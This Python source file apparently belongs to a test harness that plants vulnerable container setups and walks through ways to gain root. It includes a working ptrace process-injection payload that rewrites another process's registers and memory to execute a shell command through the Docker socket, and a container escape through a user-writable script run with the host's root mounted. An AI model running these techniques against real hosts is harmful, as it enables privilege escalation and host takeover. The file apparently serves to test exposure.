"""Ways to root by a program in a container that has a user's uid and a group that the user has not: the user attaches to it from outside, and acts with it.

A container is made here with a root, mounts and process ids of its own, in which the engine's socket is mounted. Where a machine has Yama, nobody may attach.
Beside them stands what a real dockerd's container runs from a directory of the host that a user may write to.
"""

from pathlib import Path

from hosts.planting import PYTHON, D, Plant, all_of, can, edit, lines, shell, stopped
from hosts.rows_paths import CAROL, CONNECTS, DAVE, EMPTIED, G
from hosts.walking import ASKS, PROOF, Walk, Way, root_by, step, then
from real_engines.container_ways import GIVEN, IMAGE
from real_engines.rootless_world import RootlessWorld

BOX = "/run/box"
SCOPE = Path("/proc/sys/kernel/yama/ptrace_scope")
CONTAINER = f"""
mount --no-mtab -t tmpfs tmpfs /mnt; cd /mnt; mkdir usr box proc; touch socket; ln -s usr/bin usr/lib usr/lib64 .
mount --no-mtab --rbind /usr usr; mount --no-mtab --bind {BOX} box; mount --no-mtab --bind /run/docker.sock socket; mount --no-mtab -t proc proc proc
exec chroot . "$@"
"""
SLEEPS = "import time; open('/box/ready', 'w'); time.sleep(600)"
HIDES = f"import ctypes; ctypes.CDLL(None).prctl(4, 0, 0, 0, 0); {SLEEPS}"
"""PR_SET_DUMPABLE."""
TAKES = """
import ctypes, os, struct, sys
pid, argv = int(sys.argv[1]), [one.encode() + b"\\0" for one in sys.argv[2:]]
libc = ctypes.CDLL(None)
libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
def ptrace(request, data=None):
    if libc.ptrace(request, pid, None, data):
        sys.exit(1)
ptrace(16)  # PTRACE_ATTACH
os.waitpid(pid, 0x40000000)  # __WALL
regs = (ctypes.c_ulonglong * 27)()
ptrace(12, regs)  # PTRACE_GETREGS
start = regs[19] - 16384 & ~7  # below the stack
places = [start + 1024 + sum(map(len, argv[:at])) for at in range(len(argv))]
with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
    for place, data in ((start, struct.pack(f"{len(argv) + 1}Q", *places, 0)), (places[0], b"".join(argv)), (regs[16], b"\\x0f\\x05")):
        memory.seek(place)
        memory.write(data)
regs[10], regs[15], regs[14], regs[13], regs[12] = 59, 2**64 - 1, places[0], start, 0  # rax: execve(2), orig_rax, rdi, rsi, rdx
ptrace(13, regs)  # PTRACE_SETREGS
ptrace(17)  # PTRACE_DETACH
"""
"""Makes another process execute a command, by a system call of x86-64 that is written where it is."""


TAKE = "exec /usr/bin/python3 -I /run/box/takes $(cat /run/box/pid) /bin/sh -c '/usr/bin/python3 -I /box/asks /socket && : > /box/answered; exec sleep 600'"
WAITS = "for _ in $(seq 100); do rm /run/box/answered 2> /dev/null && exit; sleep 0.05; done; exit 1"


def contained(*options: str, program: str = SLEEPS) -> Plant:
    """Return the planting of a container whose program is started with these options of setpriv(1), instead of one that is there already."""

    def plant(world: RootlessWorld) -> None:
        leave(world)
        world.run("install", "-d", "-m", "1777", BOX)
        for name, text in (("asks", ASKS), ("takes", TAKES), ("take", TAKE)):
            world.run("sh", "-c", f'printf %s "$1" > {BOX}/{name}', "sh", text)
        started = world.start("unshare", "--mount", "--pid", "--fork", "--kill-child", "sh", "-ec", CONTAINER, "sh", "setpriv", *options, *PYTHON, program)
        world.wait(lambda: "ready" in world.run("ls", BOX).split())
        (inside,) = Path(f"/proc/{started.pid}/task/{started.pid}/children").read_text().split()
        world.run("sh", "-c", f"echo {inside} > {BOX}/pid")

    return plant


def leave(world: RootlessWorld) -> None:
    """End the container, where there is one: by its first process, which took another uid and so does not end with who started it (prctl(2))."""
    if can(world, "root", "sh", "-c", f"kill -KILL $(cat {BOX}/pid)"):
        stopped(world)
        world.run("rm", "-r", BOX)


def takes(user: str, *by: str) -> Walk:
    """Return the walk of a user who makes the program in the container ask at the socket, by what starts a shell with another group."""
    return then(lambda world: can(world, user, *(by or ("sh", "-c")), f"sh {BOX}/take"), step("root", WAITS))


def carols(*, gid: int = CAROL, **more: str) -> Plant:
    """Return the planting of a container that runs as carol, with the group docker, and any gid."""
    return contained(f"--reuid={CAROL}", f"--regid={gid}", f"--groups={G}", **more)


SURE = {"user:carol": (CONNECTS,)}
LIKELY = {"user:carol": (f"likely nothing: {CONNECTS}",)}
ATTACHES = {"certain": SURE, "left": LIKELY} if not SCOPE.exists() or SCOPE.read_text() == "0\n" else {"other": LIKELY, "left": LIKELY}

JOBS = "/run/jobs"
WORKS = "#!/bin/sh\nexec sleep 600\n"
PLANTED = f"#!/bin/sh\ninstall -m 0600 /dev/null /host{PROOF}\nexec sleep 600\n"
OUT = {"container:docker:jobs": ("escapes",)}


def jobs(*command: str, policy: str = "unless-stopped", host: str = "/") -> Plant:
    """Return the planting of a container of a real dockerd that has a directory of the host and runs a script from one of bob's."""

    def plant(world: RootlessWorld) -> None:
        world.start_docker("--group", "root")
        shell(f"install -d -o bob {JOBS}; printf '{WORKS}' > {JOBS}/run.sh; chmod 0755 {JOBS}/run.sh; chown bob {JOBS}/run.sh")(world)
        world.run("sh", "-ec", f"({IMAGE.format(base=world.base)}) | docker -H unix://{D} import - empty")
        given = ("--network=none", "--restart", policy, "--name", "jobs", *GIVEN, "-v", f"{host}:/host", "-v", f"{JOBS}:/jobs:ro")
        world.run("docker", "-H", f"unix://{D}", "run", "--detach", *given, "empty", *command)

    return plant


OWNED = shell(f"chown root {JOBS} {JOBS}/run.sh")
RUNS_IT = root_by(step("bob", f"printf '{PLANTED}' > {JOBS}/run.sh"), step("root", f"docker -H unix://{D} restart -t 0 jobs"), step("root", "sleep 1"))
"""What happens whenever the container ends, and at the next boot."""

WAYS = [
    Way(
        name="a script of a user's that a container with the host's / runs",
        plant=jobs("sh", "/jobs/run.sh"),
        walk=RUNS_IT,
        certain={"user:bob": ("writes runs escapes",), **OUT},
        twin=OWNED,
        left=OUT,
    ),
    Way(
        name="a script of a user's that a container runs which is not started again",
        plant=jobs("/bin/sh", "-c", "/jobs/run.sh", policy="no"),
        walk=RUNS_IT,
        certain=OUT,
        other={"user:bob": ("likely nothing: writes runs escapes",)},
        twin=OWNED,
        left=OUT,
    ),
    Way(name="a container with a user's uid and docker's group", plant=all_of(EMPTIED, carols()), walk=takes("carol"), twin=carols(gid=0), **ATTACHES),
    Way(
        name="a container with a user's uid and docker's group, and a program that is not dumpable",
        plant=all_of(EMPTIED, carols()),
        walk=takes("carol"),
        twin=carols(program=HIDES),
        **ATTACHES,
    ),
    Way(
        name="a container with a user's uid and docker's group, and a capability",
        plant=all_of(EMPTIED, carols()),
        walk=takes("carol"),
        twin=contained(f"--reuid={CAROL}", f"--regid={CAROL}", f"--groups={G}", "--inh-caps=+kill", "--ambient-caps=+kill"),
        **ATTACHES,
    ),
    Way(
        name="a container with a user's uid and docker's group, and another user's uid",
        plant=all_of(EMPTIED, carols()),
        walk=takes("carol"),
        twin=contained(f"--reuid={DAVE}", f"--regid={CAROL}", f"--groups={G}"),
        **{**ATTACHES, "left": {"user:dave": LIKELY["user:carol"]}},
    ),
    Way(
        name="a container with a gid that a user has by newgrp",
        plant=all_of(EMPTIED, lines("group", "builders:x:4700:carol"), carols(gid=4700)),
        walk=takes("carol", "sg", "builders", "-c"),
        twin=edit("group", lambda text: text.replace("builders:x:4700:carol", "builders:x:4700:")),
        **ATTACHES,
    ),
]
